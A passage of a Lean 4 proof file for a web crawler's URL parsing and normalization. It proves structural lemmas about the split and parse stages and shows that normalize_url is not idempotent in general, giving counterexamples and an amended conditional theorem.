  (splitNetloc_fst_sublist _).trans (splitScheme_snd_sublist _)

theorem urlsplit_path_sublist (u : List Char) :
    (urlsplitChars u).path.Sublist (cleanUrl u) :=
  ((((splitQuery_fst_sublist _).trans (splitFragment_fst_sublist _)).trans
    (splitNetloc_snd_sublist _)).trans (splitScheme_snd_sublist _))

theorem urlsplit_query_sublist (u : List Char) :
    (urlsplitChars u).query.Sublist (cleanUrl u) :=
  ((((splitQuery_snd_sublist _).trans (splitFragment_fst_sublist _)).trans
    (splitNetloc_snd_sublist _)).trans (splitScheme_snd_sublist _))

theorem urlsplit_path_head (u : List Char) (hn : (urlsplitChars u).netloc ≠ []) :
    (urlsplitChars u).path = [] ∨ (urlsplitChars u).path.headD (' ') = '/' := by
  by_cases hp : (urlsplitChars u).path = []
  · exact Or.inl hp
  · right
    -- notation for the pipeline stages
    set u0 := cleanUrl u with hu0
    set sr := splitScheme u0 with hsr
    set nr := splitNetloc sr.2 with hnr
    set pf := splitFragment nr.2 with hpf
    set pq := splitQuery pf.1 with hpq
    have hpath : (urlsplitChars u).path = pq.1 := rfl
    have hnet : (urlsplitChars u).netloc = nr.1 := rfl
    rw [hpath] at hp ⊢
    rw [hnet] at hn
    have hpf1ne : pf.1 ≠ [] := by
      intro he
      rw [hpq, he] at hp
      exact hp rfl
    have hnr2ne : nr.2 ≠ [] := by
      intro he
      rw [hpf, he] at hpf1ne
      exact hpf1ne rfl
    -- the head of the post-netloc remainder is a delimiter
    have hdelim : isNetlocDelim (nr.2.headD (' ')) = true := by
      rcases splitNetloc_snd_head sr.2 with h | h | h
      · exact absurd h hn
      · exact absurd h hnr2ne
      · exact h
    -- the head survives the fragment and query splits
    have h1 : pf.1.headD (' ') = nr.2.headD (' ') := by
      rcases splitFragment_fst_head nr.2 (' ') with h | h
      · exact absurd h hpf1ne
      · exact h
    have h2 : pq.1.headD (' ') = pf.1.headD (' ') := by
      rcases splitQuery_fst_head pf.1 (' ') with h | h
      · exact absurd h hp
      · exact h
    have hd : isNetlocDelim (pq.1.headD (' ')) = true := by
      rw [h2, h1]
      exact hdelim
    -- the head is in the path, which contains neither ? nor #
    have hmem : pq.1.headD (' ') ∈ pq.1 := by
      cases hc : pq.1 with
      | nil => exact absurd hc hp
      | cons a t =>
        rw [List.headD_cons]
        exact List.mem_cons_self a t
    have hnq : pq.1.headD (' ') ≠ '?' := by
      intro he
      have hq : ('?') ∈ pq.1 := by
        rw [← he]
        exact hmem
      exact urlsplit_path_no_q u (hpath ▸ hq)
    have hnh : pq.1.headD (' ') ≠ '#' := by
      intro he
      have hq : ('#') ∈ pq.1 := by
        rw [← he]
        exact hmem
      exact urlsplit_path_no_hash u (hpath ▸ hq)
    unfold isNetlocDelim at hd
    simp only [Bool.or_eq_true, decide_eq_true_eq] at hd
    exact hd.elim (fun h => h.elim (fun h1 => h1) (fun h1 => absurd h1 hnq))
      (fun h => absurd h hnh)

theorem normalizePath_head (p : List Char) (h : p = [] ∨ p.headD (' ') = '/') :
    normalizePath p ≠ [] ∧ (normalizePath p).headD (' ') = '/' := by
  rcases h with h | h
  · subst h
    exact ⟨by decide, by decide⟩
  · cases p with
    | nil => exact ⟨by decide, by decide⟩
    | cons a t =>
      rw [List.headD_cons] at h
      subst h
      unfold normalizePath
      dsimp only
      rw [if_neg (show ¬ (('/') :: t = []) by simp)]
      by_cases hcond : (('/') :: t).getLast? = some ('/') ∧ 1 < (('/') :: t).length
      · rw [if_pos hcond]
        cases t with
        | nil => exact absurd hcond (by simp)
        | cons b t2 =>
          rw [List.dropLast_cons₂]
          exact ⟨by simp, rfl⟩
      · rw [if_neg hcond]
        exact ⟨by simp, rfl⟩

theorem normalizePath_chars (p : List Char) (c : Char) (hc : c ∈ normalizePath p) :
    c ∈ p ∨ c = '/' := by
  unfold normalizePath at hc
  dsimp only at hc
  by_cases hp : p = []
  · rw [if_pos hp] at hc
    right
    split at hc
    · rw [List.dropLast_single] at hc
      cases hc
    · exact List.mem_singleton.mp hc
  · rw [if_neg hp] at hc
    split at hc
    · exact Or.inl ((List.dropLast_sublist p).subset hc)
    · exact Or.inl hc

theorem splitParams_fst_head (l : List Char) (d : Char) :
    (splitParams l).1 = [] ∨ (splitParams l).1.headD d = l.headD d := by
  unfold splitParams
  by_cases hm : ('/') ∈ l
  · rw [if_pos hm]
    cases findIdxFrom (';') ((lastIdxOf ('/') l).getD 0) l with
    | none => exact Or.inr rfl
    | some i =>
      cases i with
      | zero => exact Or.inl rfl
      | succ m => exact Or.inr (headD_take l (m + 1) d (by omega))
  · rw [if_neg hm]
    cases findIdxOf (';') l with
    | none => exact Or.inr rfl
    | some i =>
      cases i with
      | zero => exact Or.inl rfl
      | succ m => exact Or.inr (headD_take l (m + 1) d (by omega))

theorem paramsOf_fst_sublist (sch l : List Char) : (paramsOf sch l).1.Sublist l := by
  unfold paramsOf
  split
  · exact splitParams_fst_sublist l
  · exact List.Sublist.refl l

theorem paramsOf_snd_sublist (sch l : List Char) : (paramsOf sch l).2.Sublist l := by
  unfold paramsOf
  split
  · exact splitParams_snd_sublist l
  · exact List.nil_sublist l

theorem paramsOf_fst_head (sch l : List Char) (d : Char) :
    (paramsOf sch l).1 = [] ∨ (paramsOf sch l).1.headD d = l.headD d := by
  unfold paramsOf
  split
  · exact splitParams_fst_head l d
  · exact Or.inr rfl

theorem urlparse_eq (u : List Char) :
    urlparseChars u =
      ⟨(urlsplitChars u).scheme, (urlsplitChars u).netloc,
       (paramsOf (urlsplitChars u).scheme (urlsplitChars u).path).1,
       (paramsOf (urlsplitChars u).scheme (urlsplitChars u).path).2,
       (urlsplitChars u).query, (urlsplitChars u).fragment⟩ := by
  unfold urlparseChars paramsOf
  dsimp only
  split <;> rfl

theorem normalize_url_idempotent_cond (u : List Char)
    (h1 : (urlparseChars u).netloc ≠ [])
    (h2 : normalizePath (normalizePath (urlparseChars u).path) =
      normalizePath (urlparseChars u).path)
    (h3 : paramsOf (urlparseChars u).scheme
        (joinParams (normalizePath (urlparseChars u).path) (urlparseChars u).params) =
      (normalizePath (urlparseChars u).path, (urlparseChars u).params)) :
    normalize_url (normalize_url u) = normalize_url u := by
  -- name the components of the first parse
  have hU := urlparse_eq u
  set S := urlsplitChars u with hS
  set sc := S.scheme with hsc
  set n := S.netloc with hn
  set p := (paramsOf S.scheme S.path).1 with hp
  set par := (paramsOf S.scheme S.path).2 with hpar
  set q := S.query with hq
  rw [hU] at h1 h2 h3
  dsimp only at h1 h2 h3
  set p2 := joinParams (normalizePath p) par with hp2
  -- the first normalization, explicitly
  have hnorm1 : normalize_url u = urlunsplitChars ⟨sc, n, p2, q, []⟩ := by
    unfold normalize_url urlunparseChars
    rw [hU]
  -- facts about the components
  have hpsub : p.Sublist S.path := paramsOf_fst_sublist _ _
  have hparsub : par.Sublist S.path := paramsOf_snd_sublist _ _
  have hphead : p = [] ∨ p.headD (' ') = '/' := by
    rcases paramsOf_fst_head S.scheme S.path (' ') with h | h
    · exact Or.inl h
    · rcases urlsplit_path_head u h1 with h0 | h0
      · left
        rw [hp, h0]
        unfold paramsOf
        rw [if_neg (by simp)]
      · right
        rw [h, h0]
  have hp'facts := normalizePath_head p hphead
  have hp2ne : p2 ≠ [] := by
    rw [hp2]
    unfold joinParams
    split
    · simp [hp'facts.1]
    · exact hp'facts.1
  have hp2h : p2.headD (' ') = '/' := by
    rw [hp2]
    unfold joinParams
    split
    · rw [headD_append _ _ hp'facts.1, hp'facts.2]
    · exact hp'facts.2
  have hp2mem : ∀ c ∈ p2, (c ∈ S.path ∨ c = '/' ∨ c = ';') := by
    intro c hc
    rw [hp2] at hc
    unfold joinParams at hc
    split at hc
    · rcases List.mem_append.mp hc with hc | hc
      · rcases normalizePath_chars p c hc with hc | hc
        · exact Or.inl (hpsub.subset hc)
        · exact Or.inr (Or.inl hc)
      · rcases List.mem_cons.mp hc with hc | hc
        · exact Or.inr (Or.inr hc)
        · exact Or.inl (hparsub.subset hc)
    · rcases normalizePath_chars p c hc with hc | hc
      · exact Or.inl (hpsub.subset hc)
      · exact Or.inr (Or.inl hc)
  have hp2q : ('?') ∉ p2 := by
    intro hc
    rcases hp2mem _ hc with hc | hc | hc
    · exact urlsplit_path_no_q u hc
    · cases hc
    · cases hc
  have hp2f : ('#') ∉ p2 := by
    intro hc
    rcases hp2mem _ hc with hc | hc | hc
    · exact urlsplit_path_no_hash u hc
    · cases hc
    · cases hc
  have hp2u : ∀ c ∈ p2, isUnsafeUrlByte c = false := by
    intro c hc
    rcases hp2mem _ hc with hc | hc | hc
    · exact cleanUrl_chars u c ((urlsplit_path_sublist u).subset hc)
    · subst hc
      rfl
    · subst hc
      rfl
  -- round trip of the second parse
  have hsplit2 : urlsplitChars (urlunsplitChars ⟨sc, n, p2, q, []⟩) =
      ⟨sc, n, p2, q, []⟩ := by
    refine urlsplit_roundtrip sc n p2 q ?_ ?_ h1 ?_ ?_ hp2ne hp2h hp2q hp2f hp2u ?_ ?_
    · exact urlsplit_scheme_lower u
    · exact urlsplit_scheme_props u
    · exact urlsplit_netloc_nodelim u
    · intro c hc
      exact cleanUrl_chars u c ((urlsplit_netloc_sublist u).subset hc)
    · exact urlsplit_query_no_hash u
    · intro c hc
      exact cleanUrl_chars u c ((urlsplit_query_sublist u).subset hc)
  have hparse2 : urlparseChars (urlunsplitChars ⟨sc, n, p2, q, []⟩) =
      ⟨sc, n, normalizePath p, par, q, []⟩ := by
    rw [urlparse_eq, hsplit2]
    dsimp only
    rw [h3]
  -- the second normalization collapses
  rw [hnorm1]
  unfold normalize_url urlunparseChars
  rw [hparse2]
  dsimp only
  rw [h2]

/-- Claim C8, counterexample: `normalize_url` is NOT idempotent.  Four
families of inputs gain or lose characters on a second pass: a path ending
in a double slash loses one slash per pass; a scheme-less path of repeated
slashes collapses further; a `;` hidden in the last path segment moves in
and out of the params component once a trailing slash is stripped; and a
trailing slash after a params segment re-splits on the second parse. -/
theorem normalize_url_not_idempotent :
    (normalize_url (normalize_url (("http://a.com/x//").toList)) ≠
      normalize_url (("http://a.com/x//").toList)) ∧
    (normalize_url (normalize_url (("/////a").toList)) ≠
      normalize_url (("/////a").toList)) ∧
    (normalize_url (normalize_url (("http://a/x;/").toList)) ≠
      normalize_url (("http://a/x;/").toList)) ∧
    (normalize_url (normalize_url (("http://a/x/;y/").toList)) ≠
      normalize_url (("http://a/x/;y/").toList)) :=
  ⟨by decide, by decide, by decide, by decide⟩

/-- Claim C8 (amended): normalization is idempotent on every URL that has a
nonempty authority, whose once-rewritten path is stable under the trailing
slash rewrite (it does not end in `//`), and whose rewritten path re-splits
into the same path/params pair (no `;` moves into the last segment); the
claimed example holds: the trailing slash of `http://a.com/x/` is stripped,
so it normalizes exactly like `http://a.com/x`.  On general URLs
idempotence FAILS (see the counterexample). -/
theorem normalize_url_idempotent_amended (u : List Char)
    (h1 : (urlparseChars u).netloc ≠ [])
    (h2 : normalizePath (normalizePath (urlparseChars u).path) =
      normalizePath (urlparseChars u).path)
    (h3 : paramsOf (urlparseChars u).scheme
        (joinParams (normalizePath (urlparseChars u).path)
          (urlparseChars u).params) =
      (normalizePath (urlparseChars u).path, (urlparseChars u).params)) :
    (normalize_url (normalize_url u) = normalize_url u) ∧
    (normalize_url (("http://a.com/x/").toList) =
      normalize_url (("http://a.com/x").toList)) :=
  ⟨normalize_url_idempotent_cond u h1 h2 h3, by decide⟩

/-- Witness for the amended C8 theorem at `http://a.com/x?q=1` (nonempty
netloc, stable path, no params): a second normalization is the identity. -/
theorem normalize_url_idempotent_amended_witness :
    ((urlparseChars (("http://a.com/x?q=1").toList)).netloc ≠ []) ∧
    (normalize_url (normalize_url (("http://a.com/x?q=1").toList)) =
      normalize_url (("http://a.com/x?q=1").toList)) :=
  ⟨by decide,
   (normalize_url_idempotent_amended (("http://a.com/x?q=1").toList)
      (by decide) (by decide) (by decide)).1⟩

end Crawler
